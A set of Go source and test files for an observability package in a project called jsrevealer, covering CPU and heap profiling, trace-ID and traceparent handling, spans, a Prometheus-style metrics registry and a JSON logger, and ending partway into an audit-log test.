	f, err := os.Create(path)
	if err != nil {
		return nil, fmt.Errorf("obs: profile output: %w", err)
	}
	switch kind {
	case "cpu":
		if err := pprof.StartCPUProfile(f); err != nil {
			f.Close()
			return nil, fmt.Errorf("obs: cpu profile: %w", err)
		}
		return func() error {
			pprof.StopCPUProfile()
			return f.Close()
		}, nil
	case "heap":
		return func() error {
			runtime.GC() // settle allocations so the snapshot reflects live heap
			if err := pprof.Lookup("heap").WriteTo(f, 0); err != nil {
				f.Close()
				return fmt.Errorf("obs: heap profile: %w", err)
			}
			return f.Close()
		}, nil
	default:
		f.Close()
		os.Remove(path)
		return nil, fmt.Errorf("obs: unknown profile kind %q (want cpu or heap)", kind)
	}
}
