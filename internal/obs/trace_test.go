package obs

import (
	"context"
	"strings"
	"testing"
	"time"
)

func TestTraceIDRandomHex(t *testing.T) {
	a, b := NewTraceID(), NewTraceID()
	if a.IsZero() || b.IsZero() {
		t.Fatal("NewTraceID returned the zero id")
	}
	if a == b {
		t.Fatal("two fresh trace ids collided")
	}
	s := a.String()
	if len(s) != 32 || strings.ToLower(s) != s {
		t.Errorf("String() = %q, want 32 lowercase hex chars", s)
	}
	back, ok := ParseTraceID(s)
	if !ok || back != a {
		t.Errorf("ParseTraceID(%q) = %v, %v", s, back, ok)
	}
	if _, ok := ParseTraceID("00000000000000000000000000000000"); ok {
		t.Error("all-zero trace id accepted")
	}
	if _, ok := ParseTraceID("short"); ok {
		t.Error("short trace id accepted")
	}
}

func TestTraceparentRoundTrip(t *testing.T) {
	sc := SpanContext{TraceID: NewTraceID(), SpanID: 0xdeadbeefcafe0123, Sampled: true}
	h := sc.Traceparent()
	want := "00-" + sc.TraceID.String() + "-deadbeefcafe0123-01"
	if h != want {
		t.Errorf("Traceparent() = %q, want %q", h, want)
	}
	back, ok := ParseTraceparent(h)
	if !ok || back != sc {
		t.Errorf("ParseTraceparent(%q) = %+v, %v", h, back, ok)
	}
	// Unsampled flag round-trips too.
	sc.Sampled = false
	if back, ok = ParseTraceparent(sc.Traceparent()); !ok || back.Sampled {
		t.Errorf("unsampled round trip = %+v, %v", back, ok)
	}
}

func TestParseTraceparentRejects(t *testing.T) {
	good := SpanContext{TraceID: NewTraceID(), SpanID: 1}.Traceparent()
	if _, ok := ParseTraceparent(good); !ok {
		t.Fatalf("control header rejected: %q", good)
	}
	bad := []string{
		"",
		"garbage",
		"00-xyz-0000000000000001-01",
		"00-00000000000000000000000000000000-0000000000000001-01", // zero trace
		"00-" + NewTraceID().String() + "-0000000000000000-01",    // zero parent
		"00-" + NewTraceID().String() + "-0001-01",                // short parent
		"ff-" + NewTraceID().String() + "-0000000000000001-01",    // forbidden version
		"0-" + NewTraceID().String() + "-0000000000000001-01",     // short version
	}
	for _, h := range bad {
		if _, ok := ParseTraceparent(h); ok {
			t.Errorf("ParseTraceparent(%q) accepted", h)
		}
	}
}

func TestRemoteParentJoinsTrace(t *testing.T) {
	remote := SpanContext{TraceID: NewTraceID(), SpanID: 42, Sampled: true}
	ctx := ContextWithRemote(WithRegistry(context.Background(), NewRegistry()), remote)
	ctx, sp := StartSpan(ctx, "serve")
	if sp.TraceID != remote.TraceID {
		t.Errorf("span trace %s != remote trace %s", sp.TraceID, remote.TraceID)
	}
	if sp.ParentID != remote.SpanID {
		t.Errorf("span parent %d != remote span %d", sp.ParentID, remote.SpanID)
	}
	// A local parent beats the remote context for children.
	_, child := StartSpan(ctx, "scan")
	if child.ParentID != sp.SpanID || child.TraceID != remote.TraceID {
		t.Errorf("child ids wrong: %+v", child)
	}
	child.End()
	sp.End()
}

func TestStageTimings(t *testing.T) {
	st := NewStageTimings()
	ctx := WithStageTimings(WithRegistry(context.Background(), NewRegistry()), st)
	ctx, outer := StartSpan(ctx, "scan.file")
	_, p := StartSpan(ctx, "parse")
	time.Sleep(time.Millisecond)
	p.End()
	_, e := StartSpan(ctx, "embed")
	e.End()
	_, e2 := StartSpan(ctx, "embed") // repeated stages sum
	e2.End()
	outer.End()

	got := st.Snapshot()
	if got["parse"] <= 0 {
		t.Errorf("parse stage = %v, want > 0", got["parse"])
	}
	if _, ok := got["embed"]; !ok {
		t.Error("embed stage missing")
	}
	if _, ok := got["scan.file"]; !ok {
		t.Error("collection-root span missing from its own table")
	}
	// Nil-safety: collection is optional everywhere.
	var none *StageTimings
	none.add("x", time.Second)
	if none.Snapshot() != nil {
		t.Error("nil StageTimings snapshot not nil")
	}
}

func TestSpanAnnotations(t *testing.T) {
	store := NewTraceStore(TraceStoreOptions{})
	ctx := WithTraceStore(WithRegistry(context.Background(), NewRegistry()), store)
	_, sp := StartSpan(ctx, "work")
	sp.SetAttr("endpoint", "/scan")
	sp.AddEvent("cache miss")
	sp.SetError("boom")
	sp.End()

	tr, ok := store.Get(sp.TraceID.String())
	if !ok {
		t.Fatal("trace not retained")
	}
	if len(tr.Spans) != 1 {
		t.Fatalf("got %d spans, want 1", len(tr.Spans))
	}
	rec := tr.Spans[0]
	if len(rec.Attrs) != 1 || rec.Attrs[0].Key != "endpoint" || rec.Attrs[0].Value != "/scan" {
		t.Errorf("attrs = %+v", rec.Attrs)
	}
	if len(rec.Events) != 1 || rec.Events[0].Message != "cache miss" {
		t.Errorf("events = %+v", rec.Events)
	}
	if rec.Error != "boom" {
		t.Errorf("error = %q", rec.Error)
	}
	if rec.SpanID != FormatSpanID(sp.SpanID) {
		t.Errorf("span id = %q, want %q", rec.SpanID, FormatSpanID(sp.SpanID))
	}
}
