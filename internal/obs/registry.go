package obs

import (
	"context"
	"fmt"
	"io"
	"math"
	"sort"
	"strconv"
	"strings"
	"sync"
)

// kind discriminates metric families.
type kind uint8

const (
	counterKind kind = iota
	gaugeKind
	histogramKind
)

func (k kind) String() string {
	switch k {
	case counterKind:
		return "counter"
	case gaugeKind:
		return "gauge"
	case histogramKind:
		return "histogram"
	default:
		return "untyped"
	}
}

// series is one labelled instrument inside a family.
type series struct {
	labels Labels
	key    string // rendered sorted labels, the series identity
	c      *Counter
	g      *Gauge
	h      *Histogram
}

// family groups all series sharing a metric name; kind and help are fixed
// at first registration.
type family struct {
	name   string
	help   string
	kind   kind
	bounds []float64 // histogram families only
	series map[string]*series
}

// Registry is a concurrent-safe collection of metric families. Instruments
// are created on first use and shared on subsequent lookups, so calling a
// getter repeatedly with the same (name, labels) is cheap and idempotent.
// The zero value is not usable; use NewRegistry.
type Registry struct {
	mu   sync.RWMutex
	fams map[string]*family
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{fams: make(map[string]*family)}
}

var defaultRegistry = NewRegistry()

// Default returns the process-wide registry, the sink for instrumentation
// running without an explicit registry in context.
func Default() *Registry { return defaultRegistry }

type registryCtxKey struct{}

// WithRegistry returns a context routing this package's context-aware
// instrumentation (spans, FromContext callers) into r.
func WithRegistry(ctx context.Context, r *Registry) context.Context {
	if ctx == nil {
		ctx = context.Background()
	}
	return context.WithValue(ctx, registryCtxKey{}, r)
}

// FromContext returns the registry carried by ctx, or Default().
func FromContext(ctx context.Context) *Registry {
	if ctx != nil {
		if r, ok := ctx.Value(registryCtxKey{}).(*Registry); ok && r != nil {
			return r
		}
	}
	return defaultRegistry
}

// Counter returns the counter series (name, labels), creating it (and its
// family) on first use. It panics when name is already registered as a
// different kind — mixing kinds under one name is a programming error that
// would corrupt the exposition.
func (r *Registry) Counter(name, help string, labels Labels) *Counter {
	s := r.lookup(name, help, counterKind, nil, labels)
	return s.c
}

// Gauge returns the gauge series (name, labels), creating it on first use.
func (r *Registry) Gauge(name, help string, labels Labels) *Gauge {
	s := r.lookup(name, help, gaugeKind, nil, labels)
	return s.g
}

// Histogram returns the histogram series (name, labels), creating it on
// first use. bounds are inclusive upper bounds (+Inf implicit); they are
// fixed by the first registration of the family and ignored afterwards. A
// nil bounds selects DefDurationBuckets.
func (r *Registry) Histogram(name, help string, bounds []float64, labels Labels) *Histogram {
	s := r.lookup(name, help, histogramKind, bounds, labels)
	return s.h
}

func (r *Registry) lookup(name, help string, k kind, bounds []float64, labels Labels) *series {
	key := labelKey(labels)
	r.mu.RLock()
	if f, ok := r.fams[name]; ok {
		if s, ok := f.series[key]; ok && f.kind == k {
			r.mu.RUnlock()
			return s
		}
	}
	r.mu.RUnlock()

	r.mu.Lock()
	defer r.mu.Unlock()
	f, ok := r.fams[name]
	if !ok {
		if k == histogramKind && bounds == nil {
			bounds = DefDurationBuckets
		}
		f = &family{name: name, help: help, kind: k, bounds: bounds, series: make(map[string]*series)}
		r.fams[name] = f
	}
	if f.kind != k {
		panic(fmt.Sprintf("obs: metric %q registered as %s, requested as %s", name, f.kind, k))
	}
	s, ok := f.series[key]
	if !ok {
		s = &series{labels: labels.clone(), key: key}
		switch k {
		case counterKind:
			s.c = &Counter{}
		case gaugeKind:
			s.g = &Gauge{}
		case histogramKind:
			s.h = newHistogram(f.bounds)
		}
		f.series[key] = s
	}
	return s
}

// labelKey renders labels sorted by key into the canonical series identity,
// which doubles as the exposition label block (minus braces).
func labelKey(labels Labels) string {
	if len(labels) == 0 {
		return ""
	}
	keys := make([]string, 0, len(labels))
	for k := range labels {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(k)
		b.WriteString(`="`)
		b.WriteString(escapeLabelValue(labels[k]))
		b.WriteByte('"')
	}
	return b.String()
}

func escapeLabelValue(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	var b strings.Builder
	for _, c := range v {
		switch c {
		case '\\':
			b.WriteString(`\\`)
		case '"':
			b.WriteString(`\"`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func escapeHelp(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	return strings.ReplaceAll(v, "\n", `\n`)
}

// formatFloat renders a value the way Prometheus clients do: shortest
// round-trip representation, with +Inf spelled "+Inf".
func formatFloat(v float64) string {
	switch {
	case math.IsInf(v, 1):
		return "+Inf"
	case math.IsInf(v, -1):
		return "-Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// WritePrometheus writes every family in Prometheus text exposition format
// (version 0.0.4), families sorted by name and series by label key, so the
// output is deterministic and golden-file testable.
func (r *Registry) WritePrometheus(w io.Writer) error {
	r.mu.RLock()
	fams := make([]*family, 0, len(r.fams))
	for _, f := range r.fams {
		fams = append(fams, f)
	}
	r.mu.RUnlock()
	sort.Slice(fams, func(i, j int) bool { return fams[i].name < fams[j].name })

	var b strings.Builder
	for _, f := range fams {
		// Series creation only ever adds to f.series under the registry
		// lock; iterate a sorted snapshot for deterministic output.
		r.mu.RLock()
		ss := make([]*series, 0, len(f.series))
		for _, s := range f.series {
			ss = append(ss, s)
		}
		r.mu.RUnlock()
		sort.Slice(ss, func(i, j int) bool { return ss[i].key < ss[j].key })

		if f.help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", f.name, escapeHelp(f.help))
		}
		fmt.Fprintf(&b, "# TYPE %s %s\n", f.name, f.kind)
		for _, s := range ss {
			switch f.kind {
			case counterKind:
				fmt.Fprintf(&b, "%s%s %d\n", f.name, braced(s.key), s.c.Value())
			case gaugeKind:
				fmt.Fprintf(&b, "%s%s %s\n", f.name, braced(s.key), formatFloat(s.g.Value()))
			case histogramKind:
				writeHistogram(&b, f.name, s)
			}
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}

func braced(key string) string {
	if key == "" {
		return ""
	}
	return "{" + key + "}"
}

// writeHistogram emits the cumulative _bucket/_sum/_count triplet of one
// histogram series, merging the le label into the series labels.
func writeHistogram(b *strings.Builder, name string, s *series) {
	counts := s.h.BucketCounts()
	bounds := s.h.Bounds()
	var cum uint64
	for i, c := range counts {
		cum += c
		bound := math.Inf(1)
		if i < len(bounds) {
			bound = bounds[i]
		}
		key := s.key
		if key != "" {
			key += ","
		}
		key += `le="` + formatFloat(bound) + `"`
		fmt.Fprintf(b, "%s_bucket{%s} %d\n", name, key, cum)
	}
	fmt.Fprintf(b, "%s_sum%s %s\n", name, braced(s.key), formatFloat(s.h.Sum()))
	fmt.Fprintf(b, "%s_count%s %d\n", name, braced(s.key), s.h.Count())
}

// Snapshot is a JSON-marshalable view of a registry, the payload behind
// `-stats-json` and the BENCH_*.json trajectory.
type Snapshot struct {
	Counters   []Point          `json:"counters,omitempty"`
	Gauges     []Point          `json:"gauges,omitempty"`
	Histograms []HistogramPoint `json:"histograms,omitempty"`
}

// Point is one counter or gauge series value.
type Point struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
	Value  float64           `json:"value"`
}

// HistogramPoint is one histogram series with derived quantiles.
type HistogramPoint struct {
	Name    string            `json:"name"`
	Labels  map[string]string `json:"labels,omitempty"`
	Count   uint64            `json:"count"`
	Sum     float64           `json:"sum"`
	P50     float64           `json:"p50"`
	P99     float64           `json:"p99"`
	Buckets []Bucket          `json:"buckets,omitempty"`
}

// Bucket is one cumulative histogram bucket; Le is the rendered upper
// bound ("+Inf" for the overflow bucket) because JSON cannot encode
// infinities as numbers.
type Bucket struct {
	Le    string `json:"le"`
	Count uint64 `json:"count"`
}

// Snapshot captures the current value of every series, sorted like the
// Prometheus exposition. Quantiles for empty histograms are reported as 0
// rather than NaN so the snapshot always marshals.
func (r *Registry) Snapshot() Snapshot {
	r.mu.RLock()
	fams := make([]*family, 0, len(r.fams))
	for _, f := range r.fams {
		fams = append(fams, f)
	}
	r.mu.RUnlock()
	sort.Slice(fams, func(i, j int) bool { return fams[i].name < fams[j].name })

	var snap Snapshot
	for _, f := range fams {
		r.mu.RLock()
		ss := make([]*series, 0, len(f.series))
		for _, s := range f.series {
			ss = append(ss, s)
		}
		r.mu.RUnlock()
		sort.Slice(ss, func(i, j int) bool { return ss[i].key < ss[j].key })
		for _, s := range ss {
			switch f.kind {
			case counterKind:
				snap.Counters = append(snap.Counters, Point{
					Name: f.name, Labels: s.labels, Value: float64(s.c.Value()),
				})
			case gaugeKind:
				snap.Gauges = append(snap.Gauges, Point{
					Name: f.name, Labels: s.labels, Value: s.g.Value(),
				})
			case histogramKind:
				hp := HistogramPoint{
					Name: f.name, Labels: s.labels,
					Count: s.h.Count(), Sum: s.h.Sum(),
					P50: finiteOrZero(s.h.Quantile(0.5)),
					P99: finiteOrZero(s.h.Quantile(0.99)),
				}
				counts := s.h.BucketCounts()
				bounds := s.h.Bounds()
				var cum uint64
				for i, c := range counts {
					cum += c
					bound := math.Inf(1)
					if i < len(bounds) {
						bound = bounds[i]
					}
					hp.Buckets = append(hp.Buckets, Bucket{Le: formatFloat(bound), Count: cum})
				}
				snap.Histograms = append(snap.Histograms, hp)
			}
		}
	}
	return snap
}

func finiteOrZero(v float64) float64 {
	if math.IsNaN(v) || math.IsInf(v, 0) {
		return 0
	}
	return v
}
