package obs

import (
	"context"
	"sync"
	"sync/atomic"
	"time"
)

// SpanDurationMetric is the histogram family every ended span observes
// into, labelled by span name.
const SpanDurationMetric = "jsrevealer_span_duration_seconds"

type spanCtxKey struct{}

// spanIDs issues process-unique span identifiers. A plain counter (rather
// than random IDs) keeps span start cheap and makes IDs stable enough for
// log correlation within one process; trace IDs are the random,
// globally-unique half of the identity.
var spanIDs atomic.Uint64

// Attr is one key/value annotation on a span.
type Attr struct {
	// Key names the attribute.
	Key string `json:"key"`
	// Value is the attribute's rendered value.
	Value string `json:"value"`
}

// SpanEvent is one timestamped point annotation within a span (a cache
// hit, a retry, a lease renewal).
type SpanEvent struct {
	// Time is when the event happened.
	Time time.Time `json:"time"`
	// Message describes it.
	Message string `json:"message"`
}

// maxSpanAnnotations bounds one span's attribute and event lists so a
// pathological caller cannot grow a span without limit.
const maxSpanAnnotations = 32

// Span is one timed region of work. Spans form a tree via context: a span
// started from a context that already carries a span becomes its child and
// inherits its trace ID; a span started under a remote span context
// (ContextWithRemote — an ingested traceparent or a durable job's persisted
// trace) joins the remote trace instead of rooting a new one. Ending a span
// records its duration into the registry carried by the starting context
// (Default() when none) and reports it to the trace store carried by that
// context, if any.
//
// All Span methods are nil-safe so instrumentation never has to guard.
type Span struct {
	// Name labels the span's duration series.
	Name string
	// TraceID groups all spans belonging to one request, local or remote.
	TraceID TraceID
	// SpanID uniquely identifies this span within the process.
	SpanID uint64
	// ParentID is the parent span's SpanID (local or remote), 0 at a root.
	ParentID uint64

	start  time.Time
	reg    *Registry
	store  *TraceStore
	stages *StageTimings
	// local reports whether the span has a local parent; spans without one
	// are the process-local roots the trace store watches for slowness.
	local bool

	mu     sync.Mutex
	attrs  []Attr
	events []SpanEvent
	errMsg string
	failed bool
}

// StartSpan begins a span named name as a child of the span in ctx (if
// any) and returns a derived context carrying it. With no local parent, a
// remote span context in ctx (ContextWithRemote) is joined; otherwise a
// fresh random trace is rooted. The caller must End the span; the usual
// shape is
//
//	ctx, sp := obs.StartSpan(ctx, "parse")
//	defer sp.End()
func StartSpan(ctx context.Context, name string) (context.Context, *Span) {
	if ctx == nil {
		ctx = context.Background()
	}
	s := &Span{
		Name:   name,
		SpanID: spanIDs.Add(1),
		start:  time.Now(),
		reg:    FromContext(ctx),
		store:  TraceStoreFromContext(ctx),
		stages: stageTimingsFromContext(ctx),
	}
	if parent := SpanFromContext(ctx); parent != nil {
		s.TraceID = parent.TraceID
		s.ParentID = parent.SpanID
		s.local = true
	} else if remote, ok := RemoteFromContext(ctx); ok {
		s.TraceID = remote.TraceID
		s.ParentID = remote.SpanID
	} else {
		s.TraceID = NewTraceID()
	}
	return context.WithValue(ctx, spanCtxKey{}, s), s
}

// SpanFromContext returns the innermost span carried by ctx, or nil.
func SpanFromContext(ctx context.Context) *Span {
	if ctx == nil {
		return nil
	}
	s, _ := ctx.Value(spanCtxKey{}).(*Span)
	return s
}

// Context returns the span's identity as a propagatable SpanContext — what
// an outbound traceparent header or a persisted job record carries.
func (s *Span) Context() SpanContext {
	if s == nil {
		return SpanContext{}
	}
	return SpanContext{TraceID: s.TraceID, SpanID: s.SpanID, Sampled: true}
}

// SetAttr annotates the span with a key/value pair. Attributes beyond the
// per-span cap are dropped.
func (s *Span) SetAttr(key, value string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	if len(s.attrs) < maxSpanAnnotations {
		s.attrs = append(s.attrs, Attr{Key: key, Value: value})
	}
	s.mu.Unlock()
}

// AddEvent records a timestamped point annotation. Events beyond the
// per-span cap are dropped.
func (s *Span) AddEvent(msg string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	if len(s.events) < maxSpanAnnotations {
		s.events = append(s.events, SpanEvent{Time: time.Now(), Message: msg})
	}
	s.mu.Unlock()
}

// SetError marks the span failed with a message; the trace store renders
// failed spans with their error.
func (s *Span) SetError(msg string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.failed = true
	s.errMsg = msg
	s.mu.Unlock()
}

// End stops the span, records its duration into the registry it was
// started under, reports it to the trace store and stage-timing collector
// (if any), and returns the duration. End on a nil span is a no-op.
func (s *Span) End() time.Duration {
	if s == nil {
		return 0
	}
	d := time.Since(s.start)
	s.reg.Histogram(SpanDurationMetric, "Span durations by name.",
		DefDurationBuckets, Labels{"span": s.Name}).ObserveDuration(d)
	s.stages.add(s.Name, d)
	if s.store != nil {
		s.store.record(s, d)
	}
	return d
}

// Elapsed returns the time since the span started without ending it.
func (s *Span) Elapsed() time.Duration {
	if s == nil {
		return 0
	}
	return time.Since(s.start)
}
