package obs

import (
	"context"
	"sync/atomic"
	"time"
)

// SpanDurationMetric is the histogram family every ended span observes
// into, labelled by span name.
const SpanDurationMetric = "jsrevealer_span_duration_seconds"

type spanCtxKey struct{}

// spanIDs issues process-unique span identifiers. A plain counter (rather
// than random IDs) keeps span start allocation-free beyond the Span itself
// and makes IDs stable enough for log correlation within one process.
var spanIDs atomic.Uint64

// Span is one timed region of work. Spans form a tree via context: a span
// started from a context that already carries a span becomes its child and
// inherits its trace ID. Ending a span records its duration into the
// registry carried by the starting context (Default() when none).
//
// All Span methods are nil-safe so instrumentation never has to guard.
type Span struct {
	// Name labels the span's duration series.
	Name string
	// TraceID groups all spans descending from one root span.
	TraceID uint64
	// SpanID uniquely identifies this span within the process.
	SpanID uint64
	// ParentID is the enclosing span's SpanID, 0 at the root.
	ParentID uint64

	start time.Time
	reg   *Registry
}

// StartSpan begins a span named name as a child of the span in ctx (if
// any) and returns a derived context carrying it. The caller must End the
// span; the usual shape is
//
//	ctx, sp := obs.StartSpan(ctx, "parse")
//	defer sp.End()
func StartSpan(ctx context.Context, name string) (context.Context, *Span) {
	if ctx == nil {
		ctx = context.Background()
	}
	s := &Span{
		Name:   name,
		SpanID: spanIDs.Add(1),
		start:  time.Now(),
		reg:    FromContext(ctx),
	}
	if parent := SpanFromContext(ctx); parent != nil {
		s.TraceID = parent.TraceID
		s.ParentID = parent.SpanID
	} else {
		s.TraceID = s.SpanID
	}
	return context.WithValue(ctx, spanCtxKey{}, s), s
}

// SpanFromContext returns the innermost span carried by ctx, or nil.
func SpanFromContext(ctx context.Context) *Span {
	if ctx == nil {
		return nil
	}
	s, _ := ctx.Value(spanCtxKey{}).(*Span)
	return s
}

// End stops the span, records its duration into the registry it was
// started under, and returns the duration. End on a nil span is a no-op.
func (s *Span) End() time.Duration {
	if s == nil {
		return 0
	}
	d := time.Since(s.start)
	s.reg.Histogram(SpanDurationMetric, "Span durations by name.",
		DefDurationBuckets, Labels{"span": s.Name}).ObserveDuration(d)
	return d
}

// Elapsed returns the time since the span started without ending it.
func (s *Span) Elapsed() time.Duration {
	if s == nil {
		return 0
	}
	return time.Since(s.start)
}
