package obs

import (
	"context"
	"encoding/json"
	"sync"
	"testing"
)

func TestRegistryReturnsSameSeries(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("hits_total", "Hits.", Labels{"code": "200"})
	b := r.Counter("hits_total", "Hits.", Labels{"code": "200"})
	if a != b {
		t.Error("same (name, labels) returned distinct counters")
	}
	c := r.Counter("hits_total", "Hits.", Labels{"code": "500"})
	if a == c {
		t.Error("distinct labels returned the same counter")
	}
}

func TestRegistryLabelOrderIrrelevant(t *testing.T) {
	r := NewRegistry()
	a := r.Gauge("g", "", Labels{"a": "1", "b": "2"})
	b := r.Gauge("g", "", Labels{"b": "2", "a": "1"})
	if a != b {
		t.Error("label insertion order changed series identity")
	}
}

func TestRegistryKindMismatchPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("m", "", nil)
	defer func() {
		if recover() == nil {
			t.Error("registering one name as two kinds did not panic")
		}
	}()
	r.Gauge("m", "", nil)
}

func TestRegistryHistogramBoundsFixedByFirstRegistration(t *testing.T) {
	r := NewRegistry()
	a := r.Histogram("h", "", []float64{1, 2}, nil)
	b := r.Histogram("h", "", []float64{9, 99}, Labels{"x": "y"})
	if len(a.Bounds()) != 2 || len(b.Bounds()) != 2 || b.Bounds()[0] != 1 {
		t.Errorf("family bounds not fixed: %v vs %v", a.Bounds(), b.Bounds())
	}
}

func TestRegistryConcurrent(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				r.Counter("c_total", "", Labels{"w": string(rune('a' + g%4))}).Inc()
				r.Gauge("g", "", nil).Set(float64(i))
				r.Histogram("h_seconds", "", []float64{0.1, 1}, nil).Observe(0.5)
			}
		}(g)
	}
	wg.Wait()
	var total int64
	for g := 0; g < 4; g++ {
		total += r.Counter("c_total", "", Labels{"w": string(rune('a' + g))}).Value()
	}
	if total != 8*500 {
		t.Errorf("counter total = %d, want %d", total, 8*500)
	}
	if got := r.Histogram("h_seconds", "", nil, nil).Count(); got != 8*500 {
		t.Errorf("histogram count = %d, want %d", got, 8*500)
	}
}

func TestSnapshotMarshals(t *testing.T) {
	r := NewRegistry()
	r.Counter("files_total", "Files.", Labels{"verdict": "benign"}).Add(3)
	r.Gauge("inflight", "", nil).Set(2)
	h := r.Histogram("lat_seconds", "", []float64{1, 10}, nil)
	h.Observe(0.5)
	h.Observe(100)
	snap := r.Snapshot()
	data, err := json.Marshal(snap)
	if err != nil {
		t.Fatalf("snapshot does not marshal: %v", err)
	}
	var back Snapshot
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatalf("snapshot does not round-trip: %v", err)
	}
	if len(back.Counters) != 1 || back.Counters[0].Value != 3 {
		t.Errorf("counters = %+v", back.Counters)
	}
	if len(back.Histograms) != 1 || back.Histograms[0].Count != 2 {
		t.Fatalf("histograms = %+v", back.Histograms)
	}
	if le := back.Histograms[0].Buckets[len(back.Histograms[0].Buckets)-1].Le; le != "+Inf" {
		t.Errorf("last bucket le = %q, want +Inf", le)
	}
}

func TestContextRegistryRouting(t *testing.T) {
	r := NewRegistry()
	ctx := WithRegistry(context.Background(), r)
	if FromContext(ctx) != r {
		t.Error("FromContext did not return the attached registry")
	}
	if FromContext(context.Background()) != Default() {
		t.Error("FromContext without registry did not fall back to Default")
	}
	if FromContext(nil) != Default() {
		t.Error("FromContext(nil) did not fall back to Default")
	}
}
