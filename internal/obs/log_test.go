package obs

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

func decodeLines(t *testing.T, buf *bytes.Buffer) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line is not JSON: %q: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

func TestLoggerLevelsAndFields(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf, LevelInfo)
	l.Debug("dropped")
	l.Info("scan.start", "files", 3, "dir", "/tmp")
	l.Error("scan.fail", "err", errors.New("boom"), "took", 250*time.Millisecond)

	lines := decodeLines(t, &buf)
	if len(lines) != 2 {
		t.Fatalf("got %d lines, want 2 (debug filtered)", len(lines))
	}
	if lines[0]["event"] != "scan.start" || lines[0]["files"] != float64(3) {
		t.Errorf("info line = %v", lines[0])
	}
	if lines[1]["err"] != "boom" || lines[1]["took"] != "250ms" {
		t.Errorf("error line = %v", lines[1])
	}
	if lines[1]["level"] != "error" {
		t.Errorf("level = %v", lines[1]["level"])
	}
	if _, ok := lines[0]["ts"]; !ok {
		t.Error("missing ts field")
	}
}

func TestLoggerSpanCorrelation(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf, LevelDebug)
	ctx, sp := StartSpan(WithRegistry(context.Background(), NewRegistry()), "work")
	l.Event(ctx, LevelInfo, "inside")
	sp.End()
	lines := decodeLines(t, &buf)
	// Hex strings, not JSON numbers: uint64 IDs above 2^53 would lose
	// precision through float64 decoding.
	if lines[0]["trace_id"] != sp.TraceID.String() || lines[0]["span_id"] != FormatSpanID(sp.SpanID) {
		t.Errorf("span correlation missing or non-hex: %v", lines[0])
	}
	if _, isNum := lines[0]["span_id"].(float64); isNum {
		t.Error("span_id decoded as a number; must be a hex string")
	}
}

func TestLoggerOddPairsAndSetLevel(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf, LevelError)
	l.Warn("dropped")
	l.SetLevel(LevelWarn)
	l.Warn("kept", "dangling")
	lines := decodeLines(t, &buf)
	if len(lines) != 1 || lines[0]["dangling"] != "(MISSING)" {
		t.Errorf("lines = %v", lines)
	}
	if l.Enabled(LevelDebug) {
		t.Error("debug enabled at warn level")
	}
}

func TestParseLevel(t *testing.T) {
	for in, want := range map[string]Level{
		"debug": LevelDebug, "INFO": LevelInfo, "warning": LevelWarn,
		"error": LevelError, "off": LevelOff,
	} {
		got, err := ParseLevel(in)
		if err != nil || got != want {
			t.Errorf("ParseLevel(%q) = %v, %v", in, got, err)
		}
	}
	if _, err := ParseLevel("loud"); err == nil {
		t.Error("bogus level accepted")
	}
}

func TestLoggerConcurrent(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf, LevelInfo)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				l.Info("tick", "g", g, "i", i)
			}
		}(g)
	}
	wg.Wait()
	if lines := decodeLines(t, &buf); len(lines) != 800 {
		t.Errorf("got %d intact lines, want 800", len(lines))
	}
}
