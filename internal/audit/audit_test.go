package audit

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"jsrevealer/internal/obs"
)

// readLines decodes every NDJSON line across the active file and archives,
// oldest first.
func readLines(t *testing.T, dir string) []Record {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".ndjson") && e.Name() != ActiveFile {
			files = append(files, e.Name())
		}
	}
	// Archives sort chronologically; the active file is always newest.
	files = append(files, ActiveFile)
	var out []Record
	for _, name := range files {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			if os.IsNotExist(err) {
				continue
			}
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			var r Record
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatalf("bad audit line %q: %v", sc.Text(), err)
			}
			out = append(out, r)
		}
		f.Close()
	}
	return out
}

func counterValue(t *testing.T, reg *obs.Registry, name string, labels obs.Labels) int64 {
	t.Helper()
	return reg.Counter(name, "", labels).Value()
}

func TestAuditWriteAndSync(t *testing.T) {
	dir := t.TempDir()
	reg := obs.NewRegistry()
	l, err := Open(dir, Options{Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
